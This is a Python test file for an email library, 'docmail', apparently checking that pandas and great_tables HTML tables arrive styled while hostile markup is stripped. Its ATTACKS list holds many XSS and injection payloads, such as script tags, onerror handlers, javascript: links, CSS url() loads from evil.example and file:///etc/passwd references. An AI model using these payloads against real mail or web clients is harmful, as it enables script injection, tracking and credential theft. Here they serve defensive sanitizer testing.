"""Tables that other packages draw as HTML: what they look like arrives, and nothing else of them."""

from __future__ import annotations

import base64
import importlib.util
import io
import re
from html.parser import HTMLParser
from typing import Any

import great_tables
import nh3
import pandas as pd
import polars as pl
import pytest
from hypothesis import given
from hypothesis import strategies as st
from markupsafe import Markup
from PIL import Image

import docmail
from docmail.errors import MessageError
from docmail.look import Look
from docmail.message import Message, markdown_to_html, markdown_to_text
from docmail.outbox import Outbox
from docmail.text import styled_kind
from tests.message.test_body import kinds, parsed
from tests.message.test_message import ME, text_of

FRAME = pd.DataFrame({"Region": ["North", "South"], "Revenue": [1234.5, -20.25], "Share": [0.75, 0.25]})
ELEMENTS = set(
    "a b body br caption code del div em h1 h2 h3 head hr html i img li meta ol p s small span strong style sub sup "  # noqa: SIM905
    "table tbody td tfoot th thead tr u ul".split()
)
ATTRIBUTES = set(
    "align alt bgcolor border cellpadding cellspacing charset class colspan content dir height href lang name role "  # noqa: SIM905
    "rowspan scope src style valign width xmlns:o".split()
)


def picture(form: str = "PNG", size: tuple[int, int] = (4, 3)) -> bytes:
    file = io.BytesIO()
    Image.new("RGB", size, "red").save(file, form)
    return file.getvalue()


def data(content: bytes, kind: str = "image/png") -> str:
    return f"data:{kind};base64,{base64.b64encode(content).decode()}"


def with_cell(html: str) -> Any:
    """Return a Styler with this HTML in a cell: it escapes nothing."""
    return pd.DataFrame({"a": ["before", html, "after"]}).style


def shown(source: Any) -> str:
    """Return the HTML of the table in a mail, without what stands around it."""
    html = str(markdown_to_html(Message("a@example.com", "Q3", source).body))
    return html.partition('overflow-x: auto">\n')[2].rpartition("\n</div></td>")[0]


class Looked(HTMLParser):
    """Looks at all elements and attributes of a mail's HTML as a browser reads them, and notes what could do harm."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.harm: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Note elements and attributes that no mail of ours has, and all that would load or run something."""
        if tag not in ELEMENTS:
            self.harm.append(tag)
        for name, value in attrs:
            said = re.sub(r"[\s\x00-\x20]", "", value or "").lower()
            if name not in ATTRIBUTES:
                self.harm.append(f"{tag} {name}")
            if name == "src" and not said.startswith("cid:"):
                self.harm.append(said)
            if name == "href" and not said.startswith(("https://", "http://", "mailto:", "tel:")):
                self.harm.append(said)
            if name == "style" and re.search(r"url|expression|image|import|script|position|behavi|[\\@<>]|/\*", said):
                self.harm.append(said)


def assert_harmless(html: str) -> None:
    assert Looked(html).harm == []


ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    '<img src="https://evil.example/pixel.gif?who=ann" alt="a &lt;script&gt; > b">',
    "<img src=//evil.example/pixel.gif>",
    "<img src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+'>",
    "<img src='data:text/html;base64,PHNjcmlwdD4='>",
    "<img src='data:image/png;base64,PHNjcmlwdD4='>",
    "<img src='DATA:image/png,notbase64'>",
    "<img srcset='https://evil.example/x.png 2x' src=cid:none>",
    "<img src='file:///etc/passwd'><img src='\\\\evil.example\\share\\x.png'>",
    "<picture><source srcset='https://evil.example/x'></picture>",
    "<video poster=https://evil.example/x src=https://evil.example/y autoplay></video>",
    "<audio src=https://evil.example/x autoplay></audio>",
    "<svg onload=alert(1)><image href=https://evil.example/x /></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href='javascript:alert(1)'>x</math>",
    "<iframe src=https://evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=https://evil.example></object><embed src=https://evil.example><applet code=x></applet>",
    "<form action=https://evil.example><input name=password><button>Send</button></form>",
    "<input type=image src=https://evil.example/x formaction=https://evil.example>",
    "<isindex action=javascript:alert(1)>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example>",
    "<link rel=stylesheet href=https://evil.example/x.css><link rel=stylesheet href=file:///etc/passwd>",
    "<style>@import 'https://evil.example/x.css'; td { background: url(https://evil.example) }</style>",
    "<style>* { display: none }</style><style>@font-face { font-family: x; src: url(https://evil.example) }</style>",
    "<body onload=alert(1) background=https://evil.example/x>",
    "<table background=https://evil.example/x><tr><td background='javascript:alert(1)'>x</td></tr></table>",
    '<div style="background: url(https://evil.example/x)">x</div>',
    "<div style=\"background-image: url('javascript:alert(1)')\">x</div>",
    "<div style='width: expression(alert(1))'>x</div>",
    "<div style='wid\\74 h: e\\78 pression(alert(1)); color: u\\72l(https://evil.example)'>x</div>",
    "<div style='color: red/**/; background: /*x*/url(//evil.example)'>x</div>",
    "<div style='background: image-set(\"https://evil.example/x\" 1x)'>x</div>",
    "<div style='background: -webkit-image-set(url(//evil.example) 1x), linear-gradient(red, blue)'>x</div>",
    "<div style='background: linear-gradient(url(//evil.example), red)'>x</div>",
    "<div style='width: calc(100% * attr(x)); color: var(--x, url(//evil.example))'>x</div>",
    "<div style='behavior: url(x.htc); -moz-binding: url(//evil.example/x.xml#x)'>x</div>",
    "<div style='position: fixed; top: 0; left: 0; z-index: 9; opacity: 0'>over the whole mail</div>",
    "<div style='list-style-image: url(//evil.example); cursor: url(//evil.example), auto'>x</div>",
    "<div style='content: url(//evil.example); mask: url(//evil.example); filter: url(//evil.example)'>x</div>",
    "<div style='font-family: \"x;color:red\"; src: url(//evil.example)'>x</div>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='jav\tascript:alert(1)'>x</a>",
    "<a href='jav   ascript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='java&NewLine;script&colon;alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a><a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='ms-msdt:/id'>x</a><a href='search-ms:query'>x</a><a href='file://evil.example/x'>x</a>",
    "<a href='//evil.example'>x</a><a href='x.html'>x</a><a href='#x' ping='https://evil.example'>x</a>",
    "<a href='https://example.com' target=_blank onclick=alert(1) style='position: fixed'>x</a>",
    "</td></tr></table></div></td></tr></table><script>alert(1)</script>",
    "--></td><!--<img src=x onerror=alert(1)>",
    "<!--[if mso]><script>alert(1)</script><![endif]--><![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<noembed><img title='</noembed><img src=x onerror=alert(1)>'></noembed>",
    "<xmp><img title='</xmp><img src=x onerror=alert(1)>'></xmp><plaintext><script>",
    "<textarea></textarea><img src=x onerror=alert(1)></textarea>",
    "<select><option><style></option></select><img src=x onerror=alert(1)></style>",
    "<template><img src=x onerror=alert(1)></template><slot name=x></slot>",
    "<b id=x class=dm-card onmouseover=alert(1) contenteditable autofocus tabindex=1>x</b>",
    "<marquee onstart=alert(1)>x</marquee><details open ontoggle=alert(1)>x</details><dialog open>x</dialog>",
    "<v:vmlframe src=https://evil.example /><o:x onload=alert(1)>x</o:x>",
    "<th colspan=1000000 rowspan=1000000 width=100000>x</th>",
    "<img src=x` `onerror=alert(1)><img/src=x/onerror=alert(1)>",
    "<img src=\"cid:x\" alt='\"><script>alert(1)</script>'>",
    "<p style='x:\"</p><script>alert(1)</script>'>",
    "<b <script>alert(1)</script>0",
    "\x00<\x00script>alert(1)</script>",
    "{{ 7 * 7 }} {% raw %} ${7*7} <%= 7*7 %>",
]  # fmt: skip


@pytest.mark.parametrize("attack", ATTACKS)
def test_html_in_a_cell_does_no_harm(attack: str) -> None:
    for source in (with_cell(attack), great_tables.GT(pd.DataFrame({"a": [attack]})).fmt_markdown("a")):
        body = Message("a@example.com", "Q3", ["Hello", source, "Bye"], look=Look("Example Ltd")).body
        html = str(markdown_to_html(body, Look("Example Ltd")))
        assert_harmless(html.partition("<body")[2])
        head, tail = markdown_to_html("Hello\n\nBye", Look("Example Ltd")).split("Bye")
        assert html.startswith(head[: head.index("</p>")])  # what stands around it is as it was
        assert html.endswith("Bye" + tail)
        assert html.count("<td") == html.count("</td>")


@pytest.mark.parametrize("attack", ATTACKS)
def test_html_in_a_head_a_caption_or_a_style_does_no_harm(attack: str) -> None:
    frame = pd.DataFrame({attack: [1]}, index=pd.Index([attack], name=attack))
    styled = frame.style.set_caption(attack).map(lambda _cell: f"color: {attack}; background: {attack}")
    styled = styled.set_table_attributes(f'background="{attack}" onclick="alert(1)"')
    try:
        assert_harmless(shown(styled))
    except MessageError as exc:  # a style that is none
        assert exc.field == "body"  # noqa: PT017 - one or the other


@pytest.mark.parametrize(
    "sheet",
    [
        [("background", "url(https://evil.example/x)")],
        [("background-image", "url(https://evil.example/x)")],
        [("width", "expression(alert(1))")],
        [("position", "fixed")],
        [("color", "red } @import url(https://evil.example); td { color: blue")],
        [("content", "url(https://evil.example/x)")],
    ],
)
def test_a_style_sheet_loads_nothing(sheet: list[tuple[str, str]]) -> None:
    assert_harmless(shown(FRAME.style.set_table_styles([{"selector": "td", "props": sheet}])))


@given(st.text(st.sampled_from(list("<>/\"'=&;:#\\ abimgstyleonrcdtl!-\n\t\0`(){}[]%@")), max_size=60))
def test_whatever_stands_in_a_cell_does_no_harm(cell: str) -> None:
    assert_harmless(shown(with_cell(cell)))


def test_no_text_is_taken_for_a_table() -> None:
    with pytest.raises(MessageError, match="is HTML"):
        Message("a@example.com", "Q3", ["Hello", FRAME.style.to_html()])
    assert "&lt;td" in markdown_to_html("<table><tr><td>x</table>")
    html = markdown_to_html(Message("a@example.com", "Q3", [Markup("<i>"), "x"]).body)
    assert "&lt;i&gt;" in html


def test_the_look_of_a_styler_arrives() -> None:
    styled = (
        FRAME.style.hide(axis="index").format({"Revenue": "{:,.2f}", "Share": "{:.0%}"}).set_caption("Sales & more")
    )
    styled = styled.map(lambda cell: "color: #b00020; font-weight: bold" if cell < 0 else "", subset=["Revenue"])
    styled = styled.highlight_max(subset=["Share"], color="#ffeeaa").bar(subset=["Revenue"], color="#d65f5f")
    html = shown(styled)
    assert re.search(r'<td style="[^"]*color: #b00020; font-weight: bold[^"]*">-20.25</td>', html)
    assert re.search(r'<td style="[^"]*text-align: right[^"]*background-color: #ffeeaa[^"]*">75%</td>', html)
    assert "linear-gradient(90deg, #d65f5f" in html
    assert "<caption>Sales &amp; more</caption>" in html
    assert not re.search("class=|id=|<style", html)
    text = markdown_to_text(Message("a@example.com", "Q3", styled).body)
    assert text == (
        "Sales & more\n\n"
        "Region   Revenue  Share\n"
        "------  --------  -----\n"
        "North   1,234.50    75%\n"
        "South     -20.25    25%\n"
    )


def test_the_look_of_a_gt_arrives() -> None:
    drawn = great_tables.GT(FRAME).tab_header("Sales", "Third quarter").fmt_currency("Revenue")
    drawn = drawn.tab_spanner("Numbers", ["Revenue", "Share"]).tab_source_note("Source: the books")
    drawn = drawn.data_color(columns="Share", palette=["white", "#0a5c8c"])
    html = shown(drawn)
    assert re.search(r'<td style="[^"]*text-align: right">\$1,234.50</td>', html)
    assert "#0a5c8c" in html
    assert not re.search(" class=| id=|<style", html)
    text = markdown_to_text(Message("a@example.com", "Q3", drawn).body)
    assert text == (
        "Sales\n\nThird quarter\n\n"
        "Region  Numbers Revenue  Numbers Share\n"
        "------  ---------------  -------------\n"
        "North         $1,234.50           0.75\n"
        "South           \N{MINUS SIGN}$20.25           0.25\n\n"
        "Source: the books\n"
    )


def test_a_gt_of_polars_stands_in_a_text() -> None:
    assert ">x</td>" in shown(great_tables.GT(pl.DataFrame({"a": ["x"]})))


def test_heads_of_several_levels_and_merged_cells_keep_their_places_as_text() -> None:
    index = pd.MultiIndex.from_tuples([("A", 1), ("A", 2), ("B", 1)], names=["x", "y"])
    columns = pd.MultiIndex.from_tuples([("Q1", "n"), ("Q1", "m")])
    text = markdown_to_text(
        Message("a@example.com", "Q3", pd.DataFrame([[1, 2], [3, 4], [5, 6]], index, columns).style).body
    )
    assert [line.split() for line in text.splitlines()] == [
        ["x", "y", "Q1", "n", "Q1", "m"],
        ["-", "-", "----", "----"],
        ["A", "1", "1", "2"],
        ["2", "3", "4"],
        ["B", "1", "5", "6"],
    ]


def test_a_table_has_a_light_ground_in_the_dark_as_well() -> None:
    html = markdown_to_html(Message("a@example.com", "Q3", FRAME.style).body)
    assert re.search(r'<table [^>]*class="dm-light"[^>]*bgcolor="#ffffff"[^>]*color: #1f2933', html)
    assert html.index(".dm-light a {") > html.index(".dm-card a {")  # which has the colour of dark grounds


def test_links_and_pictures_in_cells() -> None:
    png, jpeg, gif = picture(), picture("JPEG"), picture("GIF")
    cells = [
        '<a href="https://example.com/?a=1&amp;b=2">portal</a>',
        f'<img alt="red" width=40 src="{data(png)}">',
        f'<img src="{data(jpeg, "image/jpeg")}"><img src="{data(gif, "image/gif")}"><img src="{data(png)}">',
        '<img alt="A &lt;b&gt; chart" src="https://example.com/chart.png">',
    ]
    mail = parsed(Message("a@example.com", "Q3", pd.DataFrame({"a": cells}).style))
    pictures = ["text/html", "image/png", "image/jpeg", "image/gif"]
    assert kinds(mail) == ("multipart/alternative", ["text/plain", ("multipart/related", pictures)])
    html = text_of(mail, "html")
    named = re.findall(r'<img [^>]*src="cid:([^"]+)"', html)
    parts = {part["Content-ID"].strip("<>"): part.get_content() for part in mail.walk() if part["Content-ID"]}
    assert [parts[name] for name in named] == [png, jpeg, gif, png]
    assert re.search(r'<a style="color: #0b5cad" href="https://example.com/\?a=1&amp;b=2">portal</a>', html)
    assert "A &lt;b&gt; chart</td>" in html  # a picture that is elsewhere is not loaded
    assert_harmless(html.partition("<body")[2])
    assert "red" in text_of(mail, "plain")


@pytest.mark.parametrize("broken", [b"\x89PNG\r\n\x1a\nrest", picture()[:50], b"<svg/>", b"GIF89a"])
def test_a_picture_that_is_none_is_left_away(broken: bytes) -> None:
    assert "<img" not in shown(with_cell(f'<img src="{data(broken)}">'))


def test_a_picture_in_a_cell_can_be_too_large() -> None:
    noise = Image.effect_noise((1200, 1200), 90)
    file = io.BytesIO()
    noise.save(file, "PNG")
    assert len(file.getvalue()) > 1_000_000
    assert "<img" not in shown(with_cell(f'<img src="{data(file.getvalue())}">'))


@pytest.mark.parametrize(
    "source",
    [
        pd.DataFrame({"a": range(101)}).style,
        pd.DataFrame([range(16)]).style,
        great_tables.GT(pd.DataFrame({"a": range(101)})),
    ],
)
def test_what_is_too_large_for_a_text_is_said(source: Any) -> None:
    with pytest.raises(MessageError, match="too large for the text of a mail") as caught:
        Message("a@example.com", "Q3", source)
    assert "df.head(20)" in (caught.value.hint or "")


def test_hidden_rows_do_not_count() -> None:
    frame = pd.DataFrame({"a": range(200)})
    assert shown(frame.style.hide(range(50, 200))).count("<tr>") == 51


def test_a_wide_table_has_smaller_letters_so_that_it_fits() -> None:
    wide = pd.DataFrame([[1234567.5] * 10], columns=[f"M{number}" for number in range(10)])
    assert "font-size: 11px" in shown(wide.style.format("{:,.1f}"))
    assert "font-size: 11px" not in shown(FRAME.style)


def test_the_same_table_is_the_same_mail_and_another_one_is_not() -> None:
    def given_by(source: Any) -> str:
        return Message("a@example.com", "Q3", source).body.source

    assert given_by(FRAME.style) == given_by(FRAME.copy().style.format(precision=1))
    assert given_by(great_tables.GT(FRAME)) == given_by(great_tables.GT(FRAME.copy()))
    other = FRAME.assign(Revenue=[1234.5, 20.25])
    assert given_by(FRAME.style) != given_by(other.style)
    assert given_by(great_tables.GT(FRAME)) != given_by(great_tables.GT(other))
    assert given_by(FRAME.style) != given_by(FRAME)


def test_the_same_table_is_drawn_alike_each_time() -> None:
    assert shown(FRAME.style) == shown(FRAME.style)
    assert shown(great_tables.GT(FRAME)) == shown(great_tables.GT(FRAME))


def test_a_batch_draws_a_shared_table_once(monkeypatch: pytest.MonkeyPatch) -> None:
    outbox = Outbox()
    calls: list[str] = []
    clean = nh3.clean

    def counted(html: str, **options: Any) -> str:
        calls.append(html)
        return clean(html, **options)

    monkeypatch.setattr(nh3, "clean", counted)
    styled = FRAME.style.set_caption("Drawn once")
    rows = [{"no": number, "email": f"a{number}@example.com"} for number in range(30)]
    messages = docmail.merge(rows, key="no", to="{{ email }}", subject="Q3", body=lambda _row: ["Hello", styled])
    outbox.add_all(messages, batch="styled", settings=ME)
    assert len(calls) == 2  # before the styles are put into the elements, and afterwards
    [first, *_others] = outbox.preview(1)
    assert "Drawn once" in first.html
    assert "Drawn once" in first.text
    assert outbox.add_all(messages, batch="styled", settings=ME).known == 30


def test_a_table_that_cannot_be_drawn_is_said() -> None:
    with pytest.raises(MessageError, match="The Styler cannot be written as HTML: division by zero"):
        Message("a@example.com", "Q3", FRAME.style.map(lambda _cell: str(1 / 0)))


@pytest.mark.parametrize(("module", "package"), [("nh3", "nh3"), ("css_inline", "css-inline")])
def test_a_missing_package_is_named(monkeypatch: pytest.MonkeyPatch, module: str, package: str) -> None:
    find = importlib.util.find_spec
    monkeypatch.setattr(importlib.util, "find_spec", lambda name: None if name == module else find(name))
    with pytest.raises(MessageError, match=f"needs the package {package}, which is not installed") as caught:
        Message("a@example.com", "Q3", FRAME.style)
    assert caught.value.hint == 'Install it: pip install "docmail[tables]".'


def test_kinds_are_known_by_their_names() -> None:
    assert [styled_kind(each) for each in (FRAME.style, great_tables.GT(FRAME), FRAME, "x", None)] == [
        "Styler", "GT", "", "", "",
    ]  # fmt: skip


def test_a_css_inline_that_returns_no_table_is_an_error_and_no_empty_mail(monkeypatch: pytest.MonkeyPatch) -> None:
    class Emptying:
        def __init__(self, **_options: object) -> None:
            pass

        def inline_fragment(self, _html: str, _css: str) -> str:
            return ""

    monkeypatch.setattr("css_inline.CSSInliner", Emptying)
    styler = pd.DataFrame({"only here": [1]}).style
    with pytest.raises(MessageError, match="css-inline returned no table") as caught:
        Message("a@example.com", "Q3", ["Hello,", styler])
    assert caught.value.hint == 'Install a newer release: pip install "css-inline>=0.24".'
